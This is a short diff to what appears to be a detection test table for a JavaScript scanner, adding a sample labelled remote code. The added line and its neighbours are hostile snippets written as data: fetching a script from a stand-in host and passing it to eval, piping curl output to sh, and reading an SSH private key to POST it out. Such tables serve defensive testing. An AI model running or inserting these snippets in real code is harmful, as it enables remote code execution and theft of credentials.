@@ -60,6 +60,7 @@ JAVASCRIPT = [
         Weakness.MALWARE,
     ),
     ("execSync('curl https://x.example/i | sh')", Weakness.REMOTE_CODE),
+    ("const src = await (await fetch('https://x.example/p.js')).text();\neval(src);", Weakness.REMOTE_CODE),
     ("eval(await (await fetch('https://x.example/a.js')).text())", Weakness.REMOTE_CODE),
     (
         "const k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa'); await fetch('https://x.example', {method: 'POST', body: k})",
